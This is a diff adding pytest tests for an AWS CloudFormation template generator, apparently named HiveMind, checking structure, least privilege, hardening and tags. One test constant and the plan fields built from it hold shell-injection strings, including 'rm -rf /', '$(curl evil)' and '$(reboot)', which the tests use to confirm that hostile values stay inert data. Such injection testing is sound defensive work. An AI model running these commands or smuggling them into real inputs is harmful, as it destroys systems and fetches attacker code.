@@ -1,0 +1,209 @@
+"""The generated stack: structure, least privilege, lint-clean, and inert hostile values."""
+
+import json
+
+import pytest
+import yaml
+
+from hivemind.models import DeploymentPlan
+from hivemind.policy import blocking, lint_template
+from hivemind.templating import render_template, to_yaml
+
+BUNDLE = "s3://hivemind-artifacts/deployments/d-1/source.zip"
+
+
+def _plan(**changes) -> DeploymentPlan:
+    base = dict(
+        app_name="flask-app",
+        language="python",
+        framework="flask",
+        runtime_version="3.12",
+        install_command="pip install -r requirements.txt",
+        start_command="gunicorn app:app",
+        port=5000,
+        port_env="PORT",
+        health_path="/health",
+        source_bundle=BUNDLE,
+    )
+    return DeploymentPlan(**{**base, **changes})
+
+
+NODE = dict(
+    app_name="express-app",
+    language="node",
+    framework="express",
+    runtime_version="20",
+    install_command="npm ci",
+    build_command="npm run build",
+    start_command="npm start",
+    port=3000,
+)
+
+
+def _resources(template, kind):
+    return {k: r for k, r in template["Resources"].items() if r["Type"] == kind}
+
+
+@pytest.mark.parametrize("plan", [_plan(), _plan(**NODE)], ids=["flask", "express"])
+def test_stack_is_complete_and_lint_clean(plan):
+    template = render_template(plan, deployment_id="d-1", stack_name="hivemind-app")
+    kinds = {r["Type"] for r in template["Resources"].values()}
+    assert {
+        "AWS::EC2::VPC",
+        "AWS::EC2::Subnet",
+        "AWS::EC2::InternetGateway",
+        "AWS::EC2::Route",
+        "AWS::ElasticLoadBalancingV2::LoadBalancer",
+        "AWS::ElasticLoadBalancingV2::Listener",
+        "AWS::ElasticLoadBalancingV2::TargetGroup",
+        "AWS::EC2::SecurityGroup",
+        "AWS::EC2::Instance",
+        "AWS::IAM::Role",
+        "AWS::IAM::InstanceProfile",
+        "AWS::Logs::LogGroup",
+    } <= kinds
+    subnets = _resources(template, "AWS::EC2::Subnet").values()
+    assert sorted(s["Properties"]["AvailabilityZone"]["Fn::Select"][0] for s in subnets) == [0, 1]
+    assert set(template["Outputs"]) >= {"URL", "TargetGroupArn", "InstanceId", "LoadBalancerDNSName"}
+    findings = lint_template(to_yaml(template))
+    assert blocking(findings) == [], findings
+
+
+def test_health_check_instance_hardening_and_network_rules():
+    plan = _plan()
+    template = render_template(plan, deployment_id="d-1", stack_name="hivemind-app")
+    tg = template["Resources"]["TargetGroup"]["Properties"]
+    assert (tg["Port"], tg["HealthCheckPath"]) == (5000, "/health")
+    assert tg["HealthyThresholdCount"] and tg["UnhealthyThresholdCount"] and tg["HealthCheckIntervalSeconds"]
+    assert "Targets" not in tg
+    instance = template["Resources"]["WebInstance"]
+    assert instance["Properties"]["MetadataOptions"]["HttpTokens"] == "required"
+    ebs = instance["Properties"]["BlockDeviceMappings"][0]["Ebs"]
+    assert (ebs["Encrypted"], ebs["VolumeType"]) == (True, "gp3")
+    assert instance["CreationPolicy"]["ResourceSignal"]["Count"] == 1
+    assert "KeyName" not in instance["Properties"]
+    assert template["Parameters"]["ImageId"]["Type"] == "AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>"
+    ingress = template["Resources"]["InstanceSecurityGroup"]["Properties"]["SecurityGroupIngress"]
+    assert ingress == [
+        {
+            "IpProtocol": "tcp",
+            "FromPort": 5000,
+            "ToPort": 5000,
+            "Description": ingress[0]["Description"],
+            "SourceSecurityGroupId": {"Fn::GetAtt": ["LoadBalancerSecurityGroup", "GroupId"]},
+        }
+    ]
+    for sg in _resources(template, "AWS::EC2::SecurityGroup").values():
+        assert all(rule.get("FromPort") != 22 for rule in sg["Properties"]["SecurityGroupIngress"])
+    alb = template["Resources"]["LoadBalancer"]["Properties"]["LoadBalancerAttributes"]
+    assert {"Key": "routing.http.drop_invalid_header_fields.enabled", "Value": "true"} in alb
+
+
+def test_instance_role_reads_only_its_own_bundle():
+    template = render_template(_plan(), deployment_id="d-1", stack_name="hivemind-app")
+    statements = template["Resources"]["InstanceRole"]["Properties"]["Policies"][0]["PolicyDocument"]["Statement"]
+    s3 = [s for s in statements if s["Action"] == "s3:GetObject"]
+    assert s3[0]["Resource"] == {"Fn::Sub": "arn:${AWS::Partition}:s3:::${SourceBucket}/${SourceKey}"}
+    params = template["Parameters"]
+    assert (params["SourceBucket"]["Default"], params["SourceKey"]["Default"]) == (
+        "hivemind-artifacts",
+        "deployments/d-1/source.zip",
+    )
+    assert not any(s["Resource"] == "*" for s in statements)
+
+
+def test_every_taggable_resource_carries_the_deployment_id():
+    template = render_template(_plan(), deployment_id="d-42", stack_name="hivemind-app")
+    untaggable = {
+        "AWS::EC2::VPCGatewayAttachment",
+        "AWS::EC2::Route",
+        "AWS::EC2::SubnetRouteTableAssociation",
+        "AWS::IAM::InstanceProfile",
+        "AWS::ElasticLoadBalancingV2::Listener",
+    }
+    for logical_id, resource in template["Resources"].items():
+        if resource["Type"] in untaggable:
+            continue
+        tags = {t["Key"]: t["Value"] for t in resource["Properties"]["Tags"]}
+        assert tags["hivemind:deployment-id"] == "d-42", logical_id
+
+
+HOSTILE = "'\"; rm -rf / #${AWS::AccountId}\n!Ref X `id` $(curl evil)"
+
+
+def test_hostile_values_stay_data():
+    benign = render_template(_plan(environment={"NOTE": "hello"}), deployment_id="d-1", stack_name="s")
+    hostile_plan = _plan(
+        environment={"NOTE": HOSTILE},
+        start_command=f"gunicorn app:app {HOSTILE}",
+        install_command=f"pip install x; {HOSTILE}",
+        health_path="/h'$(reboot)",
+    )
+    hostile = render_template(hostile_plan, deployment_id="d-1", stack_name="s")
+    # the structure is unchanged: same resources, same properties, same parameters and outputs
+    assert hostile["Resources"].keys() == benign["Resources"].keys()
+    assert hostile["Parameters"] == benign["Parameters"] and hostile["Outputs"] == benign["Outputs"]
+    script = hostile["Resources"]["WebInstance"]["Properties"]["UserData"]["Fn::Base64"]["Fn::Sub"]
+    benign_script = benign["Resources"]["WebInstance"]["Properties"]["UserData"]["Fn::Base64"]["Fn::Sub"]
+    # the only Fn::Sub references are HiveMind's own
+    import re
+
+    refs = set(re.findall(r"\$\{([^!}][^}]*)\}", script))
+    assert refs == set(re.findall(r"\$\{([^!}][^}]*)\}", benign_script))
+    assert refs <= {"AWS::StackName", "AWS::Region", "SourceBucket", "SourceKey", "AppLogGroup"}
+    # the YAML round-trips to the same template (no tag or quote in a value changes it)
+    assert yaml.safe_load(to_yaml(hostile)) == json.loads(json.dumps(hostile))
+
+
+def _rendered(script: str) -> str:
+    """What CloudFormation's Fn::Sub makes of the script."""
+    import re
+
+    values = {
+        "AWS::StackName": "s",
+        "AWS::Region": "us-east-1",
+        "SourceBucket": "b",
+        "SourceKey": "k",
+        "AppLogGroup": "lg",
+    }
+    out = re.sub(r"\$\{([^!}][^}]*)\}", lambda m: values[m.group(1)], script)
+    return out.replace("${!", "${")
+
+
+def test_hostile_values_arrive_byte_for_byte_when_bash_runs_the_script(tmp_path):
+    import subprocess
+
+    plan = _plan(environment={"NOTE": HOSTILE}, start_command=f"run {HOSTILE}")
+    script = _rendered(
+        render_template(plan, deployment_id="d", stack_name="s")["Resources"]["WebInstance"]["Properties"]["UserData"][
+            "Fn::Base64"
+        ]["Fn::Sub"]
+    )
+    assert subprocess.run(["bash", "-n"], input=script, text=True, capture_output=True).returncode == 0
+    lines = script.splitlines()
+    writers = []
+    for target in ("> /etc/hivemind/app.env.sh", "> /opt/hivemind/start.sh"):  # a quoted value may span lines
+        end = next(i for i, line in enumerate(lines) if line.endswith(target))
+        start = max(i for i in range(end + 1) if lines[i].startswith("printf '%s\\n'"))
+        writers.append("\n".join(lines[start : end + 1]))
+    sandboxed = "\n".join(
+        w.replace("/etc/hivemind/", f"{tmp_path}/").replace("/opt/hivemind/", f"{tmp_path}/") for w in writers
+    )
+    subprocess.run(["bash", "-c", sandboxed], check=True)
+    note = subprocess.run(
+        ["bash", "-c", f'. {tmp_path}/app.env.sh; printf %s "$NOTE"'], capture_output=True, text=True, check=True
+    ).stdout
+    assert note == HOSTILE
+    assert (tmp_path / "start.sh").read_text().endswith(f"\nexec run {HOSTILE}\n")
+
+
+def test_user_data_runs_the_plan_as_a_service_and_signals_on_health():
+    script = render_template(_plan(), deployment_id="d-1", stack_name="s")["Resources"]["WebInstance"]["Properties"][
+        "UserData"
+    ]["Fn::Base64"]["Fn::Sub"]
+    assert "dnf install -y python3.12" in script
+    assert "'exec gunicorn app:app'" in script
+    assert "'export PORT=5000'" in script
+    assert "systemctl enable --now hivemind-app" in script
+    assert "http://127.0.0.1:5000/health" in script
+    assert script.index("systemctl enable") < script.index("signal 0")
